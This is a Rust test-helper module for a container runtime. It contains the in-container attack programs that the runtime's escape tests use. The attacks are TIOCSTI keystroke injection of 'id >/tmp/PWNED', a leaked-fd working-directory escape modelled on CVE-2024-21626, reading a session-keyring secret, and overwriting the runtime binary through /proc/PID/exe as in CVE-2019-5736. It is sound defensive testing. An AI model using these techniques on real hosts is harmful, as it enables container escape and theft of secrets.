//! The attacks of tests/escapes.rs and tests/rootless_escapes.rs, shared
//! by both: the programs that attack from inside a container and the host
//! side that starts them and reads what they got.
//!
//! The attacking code is the test binary itself (static), re-run with
//! POCKET_ATTACK naming one of its `#[ignore]`d helper tests; each test
//! file keeps those entry points (`#[test] #[ignore] fn tty_attack()`
//! ...), which call the bodies here. How pocket is run (as root with a
//! state root of the test's, or as a real unprivileged user) is the
//! caller's: a `Command` it built, or a closure that runs pocket.

use super::{copy_exe, output_fresh, pty, wait_for};
use std::io::Read;
use std::os::fd::AsRawFd;
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output};
use std::time::{Duration, Instant};

/// This test binary: the attacking program.
pub fn me() -> PathBuf {
    std::env::current_exe().unwrap()
}

pub fn errno_name() -> String {
    std::io::Error::last_os_error().to_string()
}

/// True in the run of the helper `name` (its POCKET_ATTACK): a helper
/// run otherwise (`--ignored` with no name) does nothing.
pub fn helper_is(name: &str) -> bool {
    std::env::var("POCKET_ATTACK").as_deref() == Ok(name)
}

/// `-v <exe>:/attack:ro -e POCKET_ATTACK=helper` (the first four) and the
/// command that runs `helper` from /attack.
pub fn attack(exe: &Path, helper: &str) -> Vec<String> {
    vec![
        "-v".into(),
        format!("{}:/attack:ro", exe.display()),
        "-e".into(),
        format!("POCKET_ATTACK={helper}"),
        "/attack".into(),
        "--exact".into(),
        helper.into(),
        "--ignored".into(),
        "--nocapture".into(),
        "--test-threads".into(),
        "1".into(),
    ]
}

/// `exe` running `helper` directly, on the host: the control.
pub fn helper_cmd(exe: &Path, helper: &str) -> Command {
    let mut c = Command::new(exe);
    c.args(["--exact", helper, "--ignored", "--nocapture"])
        .env("POCKET_ATTACK", helper);
    c
}

// ---------------------------------------------------------------------
// 1. The controlling terminal (TIOCSTI).

pub const INJECT: &[u8] = b"id >/tmp/PWNED\n";

/// Inside (helper `tty_attack`): open /dev/tty, then push a command line
/// into the terminal's input queue with TIOCSTI through it and through
/// fds 0-2.
pub fn tty_attack() {
    if !helper_is("tty_attack") {
        return;
    }
    let tty = unsafe { libc::open(c"/dev/tty".as_ptr(), libc::O_RDWR) };
    let mut fds = vec![0, 1, 2];
    if tty >= 0 {
        println!("devtty: opened");
        fds.insert(0, tty);
    } else {
        println!("devtty: {}", errno_name());
    }
    for fd in fds {
        let mut res = String::from("ok");
        for c in INJECT {
            if unsafe { libc::ioctl(fd, libc::TIOCSTI, c as *const u8) } != 0 {
                res = errno_name();
                break;
            }
        }
        println!("tiocsti fd {fd}: {res}");
    }
}

/// Spawn `cmd` as the session leader of a new session whose controlling
/// terminal is a fresh pty, with the pty on 0, 1 and 2; returns its exit
/// code, its output and whatever was left in the terminal's input queue
/// (injected keys). (pre_exec runs after a uid change `cmd` has: a user's
/// command gets the user's own session.)
pub fn under_a_terminal(mut cmd: Command) -> (i32, String, Vec<u8>) {
    let (master, slave) = pty();
    let s = slave.as_raw_fd();
    cmd.stdin(slave.try_clone().unwrap())
        .stdout(slave.try_clone().unwrap())
        .stderr(slave.try_clone().unwrap());
    unsafe {
        cmd.pre_exec(|| {
            if libc::setsid() < 0 || libc::ioctl(0, libc::TIOCSCTTY, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let mut child = cmd.spawn().unwrap();
    // The command's copies of the slave go with it: only then does the
    // reader see the end once the child's side is closed.
    drop(cmd);
    // Drain the output as it comes, or a full pty would block the child.
    let mfd = master.try_clone().unwrap();
    let reader = std::thread::spawn(move || {
        let mut out = Vec::new();
        let mut m = mfd;
        let mut b = [0u8; 4096];
        loop {
            match m.read(&mut b) {
                Ok(0) | Err(_) => break,
                Ok(n) => out.extend_from_slice(&b[..n]),
            }
        }
        out
    });
    let code = child.wait().unwrap().code().unwrap_or(-1);
    // What a shell reading this terminal would get next: the injection.
    unsafe {
        let fl = libc::fcntl(s, libc::F_GETFL);
        libc::fcntl(s, libc::F_SETFL, fl | libc::O_NONBLOCK);
    }
    let mut queued = Vec::new();
    let mut b = [0u8; 256];
    loop {
        let n = unsafe { libc::read(s, b.as_mut_ptr().cast(), b.len()) };
        if n <= 0 {
            break;
        }
        queued.extend_from_slice(&b[..n as usize]);
    }
    drop(slave);
    drop(master);
    let out = reader.join().unwrap();
    (code, String::from_utf8_lossy(&out).into_owned(), queued)
}

/// The control's verdict: the attack on the host (`out`, `queued` from
/// `under_a_terminal`) should have typed the line; where the kernel
/// refuses TIOCSTI even there, say so with a SKIP (the test then proves
/// less, and the skip log shows it).
pub fn tty_control(out: &str, queued: &[u8]) {
    if !queued.windows(INJECT.len()).any(|w| w == INJECT) {
        let legacy = std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti")
            .unwrap_or_else(|_| "absent".into());
        super::features::skip(
            "TIOCSTI control",
            &format!(
                "the kernel refuses TIOCSTI even on the host (legacy_tiocsti {}): {out}",
                legacy.trim()
            ),
        );
    }
}

// ---------------------------------------------------------------------
// 2. The working directory (runc CVE-2024-21626).

/// `dir` (a host directory with a canary file) opened as fd 7 of `c`:
/// what a leaked fd of the caller's would give /proc/self/fd/7.
pub fn with_host_dir_on_fd7(c: &mut Command, dir: &Path) {
    let d = std::fs::File::open(dir).unwrap();
    let raw = d.as_raw_fd();
    unsafe {
        c.pre_exec(move || {
            if libc::dup2(raw, 7) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    // Kept open until the command is spawned (the closure copies the fd
    // number only); one fd per call.
    std::mem::forget(d);
}

// ---------------------------------------------------------------------
// 3. The session keyring.

/// Inside (helper `keyring_attack`): look for the caller's key in the
/// session keyring and read it.
pub fn keyring_attack() {
    if !helper_is("keyring_attack") {
        return;
    }
    const KEYCTL_SEARCH: libc::c_long = 10;
    const KEYCTL_READ: libc::c_long = 11;
    const KEY_SPEC_SESSION_KEYRING: libc::c_long = -3;
    let id = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            KEYCTL_SEARCH,
            KEY_SPEC_SESSION_KEYRING,
            c"user".as_ptr(),
            c"pkdemo".as_ptr(),
            0,
        )
    };
    if id < 0 {
        println!("search: {}", errno_name());
        return;
    }
    let mut b = [0u8; 64];
    let n = unsafe { libc::syscall(libc::SYS_keyctl, KEYCTL_READ, id, b.as_mut_ptr(), b.len()) };
    if n < 0 {
        println!("read: {}", errno_name());
    } else {
        println!("found: {}", String::from_utf8_lossy(&b[..n as usize]));
    }
}

/// Run `c` in a new session keyring holding the key `pkdemo` = s3cr3t,
/// as `keyctl add user pkdemo s3cr3t @s` on the host would. (pre_exec
/// runs after a uid change `c` has: a user's command gets a keyring of
/// the user's, which goes with the last process that holds it.)
pub fn with_a_secret_key(c: &mut Command) {
    unsafe {
        c.pre_exec(|| {
            const KEYCTL_JOIN_SESSION_KEYRING: libc::c_long = 1;
            const KEY_SPEC_SESSION_KEYRING: libc::c_long = -3;
            if libc::syscall(libc::SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            let k = libc::syscall(
                libc::SYS_add_key,
                c"user".as_ptr(),
                c"pkdemo".as_ptr(),
                b"s3cr3t".as_ptr(),
                6,
                KEY_SPEC_SESSION_KEYRING,
            );
            if k < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
}

// ---------------------------------------------------------------------
// 4. pocket's binary through /proc/PID/exe (runc CVE-2019-5736).

/// Inside (helper `exe_attack`): wait for a process running `load`
/// (pocket, made to run inside the container by the trap) and hold its
/// /proc/PID/exe. POCKET_MODE `after` (or unset): wait until it is gone
/// (no more ETXTBSY), then open that file for writing and write.
/// `during`: try to open it for writing all the while it runs (and after,
/// until killed), the report rewritten at each new answer (the
/// container's end kills this process). The report goes to POCKET_REPORT,
/// `<report>.ready` once the exe is held, `<report>.done` at the end.
/// It gives up after POCKET_ATTACK_SECS (20).
pub fn exe_attack() {
    if !helper_is("exe_attack") {
        return;
    }
    let report = std::env::var("POCKET_REPORT").unwrap();
    let during = std::env::var("POCKET_MODE").as_deref() == Ok("during");
    let secs = std::env::var("POCKET_ATTACK_SECS").map_or(20, |s| s.parse().unwrap());
    let mut out = String::new();
    let me = std::process::id().to_string();
    let end = Instant::now() + Duration::from_secs(secs);
    let done = || std::fs::write(format!("{report}.done"), "").unwrap();
    let (pid, fd) = 'found: loop {
        if Instant::now() > end {
            publish(&report, &format!("{out}grabbed: nothing\n"));
            done();
            return;
        }
        for e in std::fs::read_dir("/proc").unwrap().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name == me || !name.bytes().all(|c| c.is_ascii_digit()) {
                continue;
            }
            let cmd = std::fs::read(e.path().join("cmdline")).unwrap_or_default();
            if !cmd.split(|&c| c == 0).any(|a| a == b"load") {
                continue;
            }
            let p = std::ffi::CString::new(format!("/proc/{name}/exe")).unwrap();
            let fd = unsafe { libc::open(p.as_ptr(), libc::O_PATH) };
            if fd >= 0 {
                let link = std::fs::read_link(format!("/proc/self/fd/{fd}"))
                    .map(|l| l.display().to_string())
                    .unwrap_or_default();
                out.push_str(&format!("grabbed: {link}\n"));
                // Which mount it is on (the test tells one view from another).
                let mut st: libc::stat = unsafe { std::mem::zeroed() };
                if unsafe { libc::fstat(fd, &mut st) } == 0 {
                    out.push_str(&format!("dev: {}\n", st.st_dev));
                }
                break 'found (name, fd);
            }
            let e = format!("open exe of a `load`: {}\n", errno_name());
            if !out.contains(&e) {
                out.push_str(&e);
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    };
    let p = std::ffi::CString::new(format!("/proc/self/fd/{fd}")).unwrap();
    // Opened (and a write tried): Ok; else the open's errno.
    let try_write = |out: &mut String| -> Result<(), i32> {
        let w = unsafe { libc::open(p.as_ptr(), libc::O_WRONLY) };
        if w < 0 {
            let errno = std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
            let e = format!("open for writing: {}\n", errno_name());
            if !out.contains(&e) {
                out.push_str(&e);
            }
            return Err(errno);
        }
        let n = unsafe { libc::write(w, b"PWNED".as_ptr().cast(), 5) };
        if n < 0 {
            out.push_str(&format!("write: {}\n", errno_name()));
        } else {
            out.push_str("write: ok\n");
        }
        Ok(())
    };
    if during {
        publish(&report, &out);
        std::fs::write(format!("{report}.ready"), &out).unwrap();
        while Instant::now() < end {
            let len = out.len();
            if try_write(&mut out).is_ok() {
                publish(&report, &out);
                done();
                return;
            }
            if out.len() != len {
                publish(&report, &out);
            }
            std::thread::sleep(Duration::from_micros(200));
        }
        done();
        return;
    }
    // Tell the test it may let the trapped process end.
    std::fs::write(format!("{report}.ready"), &out).unwrap();
    while Path::new(&format!("/proc/{pid}")).exists() && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(5));
    }
    // A sealed copy stays busy (ETXTBSY) until the last process running
    // it, the `pocket exec` outside that started the trapped one, has
    // exited too, a moment later: only then is the seal what refuses.
    while try_write(&mut out) == Err(libc::ETXTBSY) && Instant::now() < end {
        std::thread::sleep(Duration::from_millis(1));
    }
    publish(&report, &out);
    done();
}

/// Write `text` to `path` whole: the container may be killed at any
/// moment, and the test must never read the file half written.
fn publish(path: &str, text: &str) {
    let tmp = format!("{path}.tmp");
    std::fs::write(&tmp, text).unwrap();
    std::fs::rename(&tmp, path).unwrap();
}

/// Where `exe_attack` reports, inside the container.
pub const EXE_REPORT: &str = "/tmp/exe-report";

/// The trap in `rootfs`: the container's `trap` is the exec'ing process's
/// own binary (/proc/self/exe); and the attacker, this binary, at /attack.
pub fn plant_trap(rootfs: &Path) {
    std::os::unix::fs::symlink("/proc/self/exe", rootfs.join("bin/trap")).unwrap();
    copy_exe(me(), rootfs.join("attack"));
}

/// `exec -d` of `exe_attack` into container `id` (POCKET_MODE=during if
/// `during`), reporting to EXE_REPORT, through `pocket` (how the caller
/// runs pocket with those arguments); returns what `pocket` returned.
pub fn exe_attack_exec<T>(id: &str, during: bool, pocket: impl FnOnce(&[&str]) -> T) -> T {
    exe_attack_exec_for(id, during, 20, pocket)
}

/// `exe_attack_exec`, giving up after `secs`.
pub fn exe_attack_exec_for<T>(
    id: &str,
    during: bool,
    secs: u32,
    pocket: impl FnOnce(&[&str]) -> T,
) -> T {
    let report = format!("POCKET_REPORT={EXE_REPORT}");
    let secs = format!("POCKET_ATTACK_SECS={secs}");
    let mut args = vec!["exec", "-d", "-e", "POCKET_ATTACK=exe_attack", "-e", &secs];
    if during {
        args.extend(["-e", "POCKET_MODE=during"]);
    }
    args.extend([
        "-e",
        &report,
        id,
        "/attack",
        "--exact",
        "exe_attack",
        "--ignored",
    ]);
    pocket(&args)
}

/// The attack's report and its `.ready` on the host, for a container
/// whose root is `rootfs`.
pub fn exe_report_paths(rootfs: &Path) -> (PathBuf, PathBuf) {
    let host_report = rootfs.join(EXE_REPORT.trim_start_matches('/'));
    let ready = PathBuf::from(format!("{}.ready", host_report.display()));
    (host_report, ready)
}

/// With `exe_attack` started (after mode) in a container whose root is
/// `rootfs`, and `trapped` the admin's `exec -i ID trap load` (pocket
/// inside the container, kept waiting on its piped stdin): wait for the
/// attack to hold the trapped exe, let the trapped process end, and
/// return the attack's report.
pub fn exe_attack_report(mut trapped: Child, rootfs: &Path) -> String {
    let (host_report, ready) = exe_report_paths(rootfs);
    wait_for(20, "the attack to hold the trapped exe", || {
        std::fs::read_to_string(&ready)
            .ok()
            .or_else(|| std::fs::read_to_string(&host_report).ok())
    });
    drop(trapped.stdin.take());
    let _ = trapped.wait();
    let rep = wait_for(20, "the attack's report", || {
        std::fs::read_to_string(&host_report).ok()
    });
    eprintln!("attack from inside:\n{rep}");
    rep
}

// ---------------------------------------------------------------------
// 5. setuid files a container makes, and the host's other users.

/// Inside (or on the host; helper `euid_helper`): print the effective
/// uid this program got.
pub fn euid_helper() {
    if !helper_is("euid_helper") {
        return;
    }
    println!("euid {}", unsafe { libc::geteuid() });
}

/// Run `path` (a copy of this binary) as the host user nobody (65534, no
/// groups, no capabilities), as a local user would try a setuid file a
/// container left behind. (Not setpriv(1): it keeps its capabilities
/// through the execve lookup, which a real user has not.)
pub fn as_nobody(path: &Path) -> Output {
    let mut c = helper_cmd(path, "euid_helper");
    c.uid(65534).gid(65534);
    output_fresh(&mut c).unwrap_or_else(|e| Output {
        status: std::os::unix::process::ExitStatusExt::from_raw(126 << 8),
        stdout: vec![],
        stderr: e.to_string().into_bytes(),
    })
}
